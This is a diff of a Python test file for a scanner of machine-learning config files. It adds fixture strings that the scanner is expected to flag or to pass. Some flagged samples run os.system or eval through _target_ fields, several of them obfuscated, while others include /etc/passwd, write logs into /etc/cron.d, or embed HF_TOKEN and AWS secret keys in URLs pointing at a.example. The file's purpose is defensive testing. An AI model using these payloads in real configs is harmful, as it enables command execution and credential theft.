@@ -176,6 +176,14 @@ def test_mlflow_imports_what_its_description_names(scan_bytes, lines, verdict):
 
 
 TOLD_TO_TOOLS = {
+    "allen.json": '{"dataset_reader": {"type": "x"}, "model": {"type": "mine.models.Net"}}',
+    "allen.jsonnet": "{dataset_reader: {type: 'x'}, model: {type: 'mine.models.Net'}}",
+    "archive.json": '{"model": {"archive_file": "https://a.example/m.tar.gz"}}',
+    "hocon.conf": 'include required(url("https://a.example/x.conf"))\n',
+    "include.yaml": "a: !include https://a.example/x.yaml\n",
+    "script.yaml": "a: !!js/function 'x'\n",
+    "pickled.json": '{"py/newargs": ["x"]}',
+    "env.yaml": "url: https://a.example/${oc.env:API_KEY}\n",
     "server.yaml": "tool-parser-plugin: ./parser.py\n",
     "serve.yaml": "applications:\n- import_path: mine:app\n",
     "list.yaml": "logits_processors:\n- a: 1\n- mine.Processor\nmiddleware: [mine.Other]\n",
@@ -187,6 +195,18 @@ TOLD_TO_TOOLS = {
     "tokenizer.json": '{"pattern": {"Regex": "(?:\\\\p{L}+)+$"}}',
 }
 CALLED = {
+    "m.yaml": "m: {_target_: eval, source: '1'}\n",
+    "n.yaml": "m: {_target_: 'os . system'}\n",
+    "o.conf": "a { _target_ = os.system }\n",
+    "p.hocon": "a { class_path: subprocess.run }\n",
+    "q.jsonnet": "{_target_: std.join('.', ['os', 'system'])}",
+    "r.jsonnet": "{_target_: std.base64Decode('b3Muc3lzdGVt')}",
+    "s.jsonnet": "{_target_: std.format('%s.%s', ['os', 'system'])}",
+    "t.yaml": "a: !include /etc/passwd\n",
+    "u.conf": 'include file("/etc/passwd")\n',
+    "v.json": '{"h": {"class": "logging.FileHandler", "filename": "/etc/cron.d/x"}}',
+    "w.yaml": "url: https://a.example/?t=${oc.env:HF_TOKEN}\n",
+    "x.yaml": "url: https://${AWS_SECRET_ACCESS_KEY}.a.example/\n",
     "a.json": '{"model": {"type": "os.system"}}',
     "b.json": '{"a": [{"fn": "posix:system"}]}',
     "c.yaml": "callback: subprocess.run\n",
@@ -201,6 +221,12 @@ CALLED = {
     "l.yaml": "_target_: logging.handlers.SocketHandler\n",
 }
 NOTHING = {
+    "j.json": '{"dataset_reader": {"type": "snli"}, "model": {"type": "allennlp.models.Model"}}',
+    "k.yaml": "a: !include ../base.yaml\nb: !include part.yaml\n",
+    "l.yaml": "url: https://u:${oc.env:DB_PASSWORD}@a.example/x\nh: https://${HOST}/x?k=${API_KEY}\n",
+    "m.yaml": "url: https://api.openai.com/?k=${oc.env:OPENAI_API_KEY}\nfilename: logs/a.log\n",
+    "n.json": '{"h": {"class": "logging.FileHandler", "filename": "/var/log/a.log"}}',
+    "o.conf": 'include "base.conf"\ninclude file("part.conf")\na { lr = 1 }\n',
     "a.json": '{"class_name": "TFOpLambda", "config": {"function": "math.multiply"}}',
     "b.json": '{"vocab": {"type": 1, "Regex": 2, "scripts": 3, "imports": 4, "os.system": 5}}',
     "c.json": '{"pattern": {"Regex": "[^\\\\r\\\\n\\\\p{L}]?\\\\p{L}+| ?[^\\\\s]+[\\\\r\\\\n]*"}}',
